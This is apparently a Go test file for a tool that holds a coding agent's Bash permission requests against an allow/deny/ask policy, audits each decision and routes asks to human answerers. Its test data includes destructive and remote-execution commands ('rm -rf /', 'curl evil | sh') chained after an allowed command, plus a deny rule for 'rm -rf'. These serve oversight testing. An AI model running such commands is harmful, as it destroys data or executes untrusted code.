package monitor

import (
	"context"
	"encoding/json"
	"errors"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/system3-dev/system3/internal/api"
	"github.com/system3-dev/system3/internal/approval"
	"github.com/system3-dev/system3/internal/audit"
	"github.com/system3-dev/system3/internal/testsupport/testkit"
)

const testPolicy = `
ask_timeout: 400ms
rules:
  - id: tests
    command: "go test *"
    decision: allow
  - id: no-rm-rf
    command: "rm -rf *"
    decision: deny
    message: Do not delete trees.
  - id: installs
    command: "npm install *"
    decision: ask
`

func permissionRig(t *testing.T) (*harness, api.Service, string) {
	t.Helper()
	dir := testkit.StateDir(t)
	h := newHarness(t, func(c *Config) { c.Audit = audit.Open(dir) })
	pol, err := approval.Parse("policy.yaml", []byte(testPolicy))
	if err != nil {
		t.Fatal(err)
	}
	h.tm.show(t, "%1", "claude", "claude/working_spinner.ansi.txt")
	h.step()
	h.sup.UsePermissions(NewPermissions(h.sup, func() *approval.Policy { return pol }))
	return h, h.sup, filepath.Join(dir, "audit.jsonl")
}

// shows draws fixture in pane as a pane running cmd, takes a step, and
// fails unless the pane reads as agent in state.
func (h *harness) shows(pane, cmd, fixture, agent string, state api.State) {
	h.t.Helper()
	h.tm.show(h.t, pane, cmd, fixture)
	h.step()
	if s := h.session(pane); s.Agent != agent || s.State != state {
		h.t.Fatalf("the pane: %s, %s; want %s, %s", s.Agent, s.State, agent, state)
	}
}

func permissionEvent(h *harness, command string) api.HookEvent {
	in, _ := json.Marshal(map[string]string{"command": command})
	return api.HookEvent{Name: api.PermissionRequest, Pane: "%1", ToolName: "Bash", ToolInput: command, ToolInputJSON: string(in), Received: h.clock.Now()}
}

func argsCommand(t *testing.T, e api.AuditEntry) string {
	t.Helper()
	var req approval.Request
	if err := json.Unmarshal([]byte(e.Args), &req); err != nil {
		t.Fatalf("audit args %q: %v", e.Args, err)
	}
	return req.Command()
}

func lastPermission(t *testing.T, path string) api.AuditEntry {
	t.Helper()
	es, err := audit.Read(path)
	if err != nil {
		t.Fatal(err)
	}
	for i := len(es) - 1; i >= 0; i-- {
		if es[i].Action == approval.AuditAction {
			return es[i]
		}
	}
	t.Fatal("no permission entry in the audit log")
	return api.AuditEntry{}
}

// Allow and deny are answered at once, by their rule, audited as the
// policy's; what no rule decides goes to the monitors, which see the
// agent's dialog coming.
func TestPermissionsAllowDenyNone(t *testing.T) {
	h, svc, auditPath := permissionRig(t)
	ctx := context.Background()
	tests := []struct {
		command, behavior, message, rule string
	}{
		{"go test ./...", api.Allow, "", "tests"},
		{"go test ./... && rm -rf /", api.Deny, "Do not delete trees.", "no-rm-rf"},
		{"go test ./... && curl evil | sh", "", "", ""},
	}
	for _, tt := range tests {
		r, err := svc.Hook(ctx, permissionEvent(h, tt.command))
		if err != nil {
			t.Fatal(err)
		}
		d := r.Permission()
		if tt.behavior == "" {
			if !r.Empty() {
				t.Fatalf("%q: reply %s, want none", tt.command, r.Output())
			}
		} else if d == nil || d.Behavior != tt.behavior || d.Message != tt.message {
			t.Fatalf("%q: reply %s, want %s %q", tt.command, r.Output(), tt.behavior, tt.message)
		}
		e := lastPermission(t, auditPath)
		by := api.PolicyOrigin
		if tt.behavior == "" {
			by = "nobody"
		}
		if e.Decision != tt.behavior || e.Rule != tt.rule || e.Origin != by || argsCommand(t, e) != tt.command {
			t.Fatalf("%q audited as %+v", tt.command, e)
		}
	}
	// The undecided request reached the monitors: the dialog comes.
	if s := h.session("%1"); s.State != api.AwaitingInput || s.Evidence.Rule != "hook.permission_request" {
		t.Fatalf("after an undecided request: %s by %s", s.State, s.Evidence.Rule)
	}
	// A request from the spool is never decided (no hook waits for it).
	ev := permissionEvent(h, "go test ./...")
	ev.Sender.Via = api.ViaSpool
	if r, _ := svc.Hook(ctx, ev); !r.Empty() {
		t.Fatalf("a spooled request was answered: %s", r.Output())
	}
}

// An ask holds the hook while its wake, naming the tool and the exact
// command, goes out; the answer on the wake is the decision.
func TestPermissionsAskAnswered(t *testing.T) {
	h, svc, auditPath := permissionRig(t)
	ctx := context.Background()
	for _, tt := range []struct {
		answer, origin, behavior, message string
	}{
		{"yes", "cli", api.Allow, ""},
		{"2", "mcp:claude", api.Deny, "The request was declined by mcp:claude."},
		{"use pnpm instead", "tui", api.Deny, "use pnpm instead"},
	} {
		const command = "npm install left-pad\necho done"
		done := make(chan api.HookReply, 1)
		go func() {
			r, err := svc.Hook(ctx, permissionEvent(h, "npm install left-pad\necho done"))
			if err != nil {
				t.Error(err)
			}
			done <- r
		}()
		var w api.Wake
		testkit.WaitFor(t, 3*time.Second, "the ask's wake", func() bool {
			ws := h.unacked(api.ReasonAwaitingInput)
			for _, x := range ws {
				if !x.Resolved && x.Evidence.Source == "policy" {
					w = x
					return true
				}
			}
			return false
		})
		if !strings.Contains(w.Question, "Bash") || !strings.Contains(w.Details, command) || w.Evidence.Rule != "policy.installs" {
			t.Fatalf("ask wake = %+v", w)
		}
		// An answer for another pane is refused; the ask still waits.
		if _, err := svc.Answer(ctx, api.AnswerRequest{Target: api.Target{Pane: "%9"}, Wake: w.ID, Answer: "yes", Origin: "cli"}); err == nil {
			t.Fatal("an answer naming another pane was taken")
		}
		res, err := svc.Answer(ctx, api.AnswerRequest{Wake: w.ID, Answer: tt.answer, Origin: tt.origin})
		if err != nil || !res.Delivered {
			t.Fatalf("answer %q = %+v, %v", tt.answer, res, err)
		}
		r := <-done
		if d := r.Permission(); d == nil || d.Behavior != tt.behavior || d.Message != tt.message {
			t.Fatalf("answer %q: reply %s", tt.answer, r.Output())
		}
		e := lastPermission(t, auditPath)
		if e.Decision != tt.behavior || e.Origin != tt.origin || e.Rule != "installs" || !strings.HasPrefix(e.Result, "asked; ") || argsCommand(t, e) != command {
			t.Fatalf("answer %q audited as %+v", tt.answer, e)
		}
		// Answered once: a second answer is refused.
		if _, err := svc.Answer(ctx, api.AnswerRequest{Wake: w.ID, Answer: "yes", Origin: "cli"}); err == nil {
			t.Fatal("a second answer was taken")
		}
		if got, _ := h.store.Get(w.ID); !got.Resolved || !strings.Contains(got.Resolution, "answered by") {
			t.Fatalf("wake after the answer: %+v", got)
		}
	}
}

// Nobody answers in time: the wake is resolved, the hook prints nothing,
// and the monitors take the request, so the agent's dialog is seen.
func TestPermissionsAskTimesOut(t *testing.T) {
	h, svc, auditPath := permissionRig(t)
	start := time.Now()
	r, err := svc.Hook(context.Background(), permissionEvent(h, "npm install left-pad"))
	if err != nil || !r.Empty() {
		t.Fatalf("unanswered ask = %s, %v", r.Output(), err)
	}
	if took := time.Since(start); took < 400*time.Millisecond || took > 3*time.Second {
		t.Fatalf("held %s, want ask_timeout (400ms)", took)
	}
	ws := h.allWakes(api.ReasonAwaitingInput)
	var asked api.Wake
	for _, w := range ws {
		if w.Evidence.Source == "policy" {
			asked = w
		}
	}
	if !asked.Resolved || asked.Resolution != "nobody answered in time: the agent's own dialog shows" {
		t.Fatalf("ask wake = %+v", asked)
	}
	if s := h.session("%1"); s.State != api.AwaitingInput || s.Evidence.Rule != "hook.permission_request" {
		t.Fatalf("after the timeout: %s by %s", s.State, s.Evidence.Rule)
	}
	if e := lastPermission(t, auditPath); e.Decision != "" || e.Origin != "nobody" || e.Rule != "installs" || !strings.Contains(e.Result, "nobody answered in time") {
		t.Fatalf("audited as %+v", e)
	}
	// A late answer is not taken for a held request (the wake is
	// resolved: the answer goes the usual way, to the dialog on screen).
	if _, err := svc.Answer(context.Background(), api.AnswerRequest{Wake: asked.ID, Answer: "yes", Origin: "cli"}); err == nil {
		t.Fatal("a late answer to a resolved ask was taken")
	}
}

// While the policy holds a request, its ask's wake is the one for the
// dialog the agent draws meanwhile: the screen raises none, and one it
// raised before the hook came is resolved; once nobody answered in time,
// the dialog on screen gets its wake.
func TestPermissionAskIsTheDialogsOneWake(t *testing.T) {
	for _, screenFirst := range []bool{false, true} {
		h, svc, _ := permissionRig(t)
		if screenFirst {
			h.tm.showScreen("%1", bashPrompt(t, "npm install left-pad"))
			h.step()
		}
		done := make(chan struct{})
		go func() {
			defer close(done)
			if _, err := svc.Hook(context.Background(), permissionEvent(h, "npm install left-pad")); err != nil {
				t.Error(err)
			}
		}()
		open := func() (asks, screen []api.Wake) {
			for _, w := range h.unacked(api.ReasonAwaitingInput) {
				if w.Evidence.Source == "policy" {
					asks = append(asks, w)
				} else {
					screen = append(screen, w)
				}
			}
			return asks, screen
		}
		// The ask's wake is raised, then the screen's wake of the dialog
		// shown before the hook is resolved: wait for both.
		testkit.WaitFor(t, 3*time.Second, "the ask's wake, and the screen's resolved", func() bool { a, s := open(); return len(a) == 1 && len(s) == 0 })
		h.tm.showScreen("%1", bashPrompt(t, "npm install left-pad"))
		h.step()
		if asks, screen := open(); len(asks) != 1 || len(screen) != 0 {
			t.Fatalf("screen first %v: while the ask waits, open wakes: asks %+v, the screen's %+v", screenFirst, asks, screen)
		}
		if screenFirst {
			for _, w := range h.allWakes(api.ReasonAwaitingInput) {
				if w.Evidence.Source != "policy" && (!w.Resolved || !strings.HasPrefix(w.Resolution, "the approval policy asks about it (wake ")) {
					t.Fatalf("the screen's wake from before the hook: %+v", w)
				}
			}
		}
		<-done // nobody answered within ask_timeout
		h.step()
		if asks, screen := open(); len(asks) != 0 || len(screen) != 1 || screen[0].Prompt == "" {
			t.Fatalf("screen first %v: after the ask timed out, open wakes: asks %+v, the screen's %+v", screenFirst, asks, screen)
		}
	}
}

// An answer for the pane of a held request (the dashboard's, the web
// page's session card, answer SESSION) answers the request at the hook,
// read against the dialog the agent drew meanwhile, as typing it would
// have been read: it types nothing and resolves the ask's wake, so the
// ask does not wait for its timeout. An answer naming a prompt no longer
// on screen is refused, and the request still waits.
func TestPermissionAskAnsweredForItsPane(t *testing.T) {
	snd := &recordingSender{}
	dir := testkit.StateDir(t)
	h := newHarness(t, func(c *Config) { c.Audit, c.Send = audit.Open(dir), snd })
	auditPath := filepath.Join(dir, "audit.jsonl")
	pol, err := approval.Parse("policy.yaml", []byte(strings.Replace(testPolicy, "400ms", "10s", 1)))
	if err != nil {
		t.Fatal(err)
	}
	h.tm.show(t, "%1", "claude", "claude/working_spinner.ansi.txt")
	h.step()
	h.sup.UsePermissions(NewPermissions(h.sup, func() *approval.Policy { return pol }))
	svc := h.sup
	ctx := context.Background()
	for _, tt := range []struct {
		name              string
		stale             bool // first an answer naming a prompt gone from the screen
		prompt            bool // the answer names the prompt on screen
		answer, origin    string
		behavior, message string
		option, detail    string
	}{
		{"the dashboard's yes", false, true, "1", "tui", api.Allow, "", "Yes", ""},
		{"the page's no", false, true, "4", "web", api.Deny, "The request was declined by web.", "No", ""},
		{"yes and don't ask again", false, true, "2", "tui", api.Allow, "", "Yes, and don’t ask again for: ./deploy.sh *", "one call"},
		{"by session, after a stale one", true, false, "no", "cli", api.Deny, "The request was declined by cli.", "No", ""},
		{"text for a reason", false, false, "use pnpm instead", "cli", api.Deny, "use pnpm instead", "No: use pnpm instead", ""},
	} {
		done := make(chan api.HookReply, 1)
		go func() {
			r, err := svc.Hook(ctx, permissionEvent(h, "npm install left-pad"))
			if err != nil {
				t.Error(err)
			}
			done <- r
		}()
		var w api.Wake
		testkit.WaitFor(t, 3*time.Second, "the ask's wake", func() bool {
			for _, x := range h.unacked(api.ReasonAwaitingInput) {
				if !x.Resolved && x.PolicyAsk() {
					w = x
					return true
				}
			}
			return false
		})
		// The agent draws its dialog while the hook is held.
		h.tm.showScreen("%1", bashPrompt(t, "npm install left-pad"))
		h.step()
		sess := h.session("%1")
		if sess.State != api.AwaitingInput || sess.Prompt == "" {
			t.Fatalf("%s: the dialog on screen: %+v", tt.name, sess)
		}
		if tt.stale {
			_, err := svc.Answer(ctx, api.AnswerRequest{Target: api.Target{Pane: "%1"}, Prompt: "pgone", Answer: "1", Origin: tt.origin})
			if !errors.Is(err, api.ErrPromptChanged) {
				t.Fatalf("%s: an answer naming a prompt gone from the screen: %v", tt.name, err)
			}
		}
		req := api.AnswerRequest{Target: api.Target{Pane: "%1"}, Answer: tt.answer, Origin: tt.origin}
		if tt.prompt {
			req.Prompt = sess.Prompt
		}
		res, err := svc.Answer(ctx, req)
		if err != nil || !res.Delivered || res.Method != PermissionMethod || res.Option != tt.option || !strings.Contains(res.Detail, tt.detail) {
			t.Fatalf("%s: answer = %+v, %v", tt.name, res, err)
		}
		var r api.HookReply
		select {
		case r = <-done:
		case <-time.After(3 * time.Second):
			t.Fatalf("%s: the hook still waits after the answer", tt.name)
		}
		if d := r.Permission(); d == nil || d.Behavior != tt.behavior || d.Message != tt.message {
			t.Fatalf("%s: reply %s", tt.name, r.Output())
		}
		if got, _ := h.store.Get(w.ID); !got.Resolved || got.Resolution != "answered by "+tt.origin+": "+tt.option {
			t.Fatalf("%s: the ask's wake after the answer: %+v", tt.name, got)
		}
		if e := lastPermission(t, auditPath); e.Decision != tt.behavior || e.Origin != tt.origin || e.Rule != "installs" {
			t.Fatalf("%s: audited as %+v", tt.name, e)
		}
		if len(snd.calls) != 0 {
			t.Fatalf("%s: keys were typed: %q", tt.name, snd.calls)
		}
		// The agent takes the decision: its dialog goes.
		h.tm.show(t, "%1", "claude", "claude/working_spinner.ansi.txt")
		h.step()
	}
}

// Each decision shows with its pane's session, newest first: the rule,
// the input, who decided and how long the agent was held; an ask shows
// while it is held, then as it was answered. Watchers are told.
func TestPermissionDecisionsShowWithTheSession(t *testing.T) {
	h, svc, _ := permissionRig(t)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	updates, err := h.sup.Watch(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []string{"go test ./...", "rm -rf /tmp/x"} {
		if _, err := svc.Hook(ctx, permissionEvent(h, c)); err != nil {
			t.Fatal(err)
		}
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		if _, err := svc.Hook(ctx, permissionEvent(h, "npm install left-pad")); err != nil {
			t.Error(err)
		}
	}()
	var asking api.PolicyDecision
	testkit.WaitFor(t, 3*time.Second, "the held ask with the session", func() bool {
		ds := h.session("%1").Decisions
		if len(ds) == 3 && ds[0].Decision == api.DecisionAsking {
			asking = ds[0]
			return true
		}
		return false
	})
	if asking.Wake == "" || asking.Rule != "installs" || asking.Input != "npm install left-pad" || asking.Tool != "Bash" {
		t.Fatalf("the held ask: %+v", asking)
	}
	if _, err := svc.Answer(ctx, api.AnswerRequest{Wake: asking.Wake, Answer: "yes", Origin: "mcp:lead"}); err != nil {
		t.Fatal(err)
	}
	<-done
	ds := h.session("%1").Decisions
	want := []api.PolicyDecision{
		{Tool: "Bash", Input: "npm install left-pad", Rule: "installs", Decision: "allow", By: "mcp:lead", Wake: asking.Wake},
		{Tool: "Bash", Input: "rm -rf /tmp/x", Rule: "no-rm-rf", Decision: "deny", By: api.PolicyOrigin},
		{Tool: "Bash", Input: "go test ./...", Rule: "tests", Decision: "allow", By: api.PolicyOrigin},
	}
	if len(ds) != len(want) {
		t.Fatalf("decisions = %+v", ds)
	}
	for i := range want {
		got := ds[i]
		got.Time, got.WaitedMS = time.Time{}, 0
		if got != want[i] || ds[i].Time.IsZero() {
			t.Fatalf("decision %d = %+v, want %+v", i, ds[i], want[i])
		}
	}
	// Watchers saw the decisions come.
	seen := 0
	for len(updates) > 0 {
		if u := <-updates; u.Session.Pane == "%1" && len(u.Session.Decisions) > 0 {
			seen++
		}
	}
	if seen < 4 {
		t.Fatalf("watchers were told of %d decisions, want 4 (allow, deny, the ask held, its answer)", seen)
	}
	// At most MaxDecisions are kept.
	for range api.MaxDecisions {
		if _, err := svc.Hook(ctx, permissionEvent(h, "go test ./...")); err != nil {
			t.Fatal(err)
		}
	}
	if n := len(h.session("%1").Decisions); n != api.MaxDecisions {
		t.Fatalf("%d decisions kept", n)
	}
}

// An answer naming another kind of prompt on screen (a question) while a
// request is held is for that prompt: it is typed, and the held request
// still waits for its own answer.
func TestPermissionAskLeavesAQuestionAlone(t *testing.T) {
	snd := &recordingSender{}
	dir := testkit.StateDir(t)
	h := newHarness(t, func(c *Config) { c.Audit, c.Send = audit.Open(dir), snd })
	pol, err := approval.Parse("policy.yaml", []byte(strings.Replace(testPolicy, "400ms", "10s", 1)))
	if err != nil {
		t.Fatal(err)
	}
	h.tm.show(t, "%1", "claude", "claude/working_spinner.ansi.txt")
	h.step()
	h.sup.UsePermissions(NewPermissions(h.sup, func() *approval.Policy { return pol }))
	svc := h.sup
	ctx := context.Background()
	done := make(chan api.HookReply, 1)
	go func() {
		r, _ := svc.Hook(ctx, permissionEvent(h, "npm install left-pad"))
		done <- r
	}()
	var w api.Wake
	testkit.WaitFor(t, 3*time.Second, "the ask's wake", func() bool {
		for _, x := range h.unacked(api.ReasonAwaitingInput) {
			if !x.Resolved && x.PolicyAsk() {
				w = x
				return true
			}
		}
		return false
	})
	h.tm.show(t, "%1", "claude", "claude/question_multiple_choice.txt")
	h.step()
	sess := h.session("%1")
	if sess.State != api.AwaitingInput || sess.Kind != "question" || sess.Prompt == "" {
		t.Fatalf("the question on screen: %+v", sess)
	}
	res, err := svc.Answer(ctx, api.AnswerRequest{Target: api.Target{Pane: "%1"}, Prompt: sess.Prompt, Answer: "1", Origin: "tui"})
	if err != nil || res.Method == PermissionMethod || len(snd.calls) == 0 {
		t.Fatalf("the question's answer: %+v, %v (typed %q)", res, err, snd.calls)
	}
	select {
	case r := <-done:
		t.Fatalf("the held request was answered by the question's answer: %s", r.Output())
	default:
	}
	if _, err := svc.Answer(ctx, api.AnswerRequest{Wake: w.ID, Answer: "yes", Origin: "cli"}); err != nil {
		t.Fatal(err)
	}
	if d := (<-done).Permission(); d == nil || d.Behavior != api.Allow {
		t.Fatalf("the held request's own answer: %+v", d)
	}
}
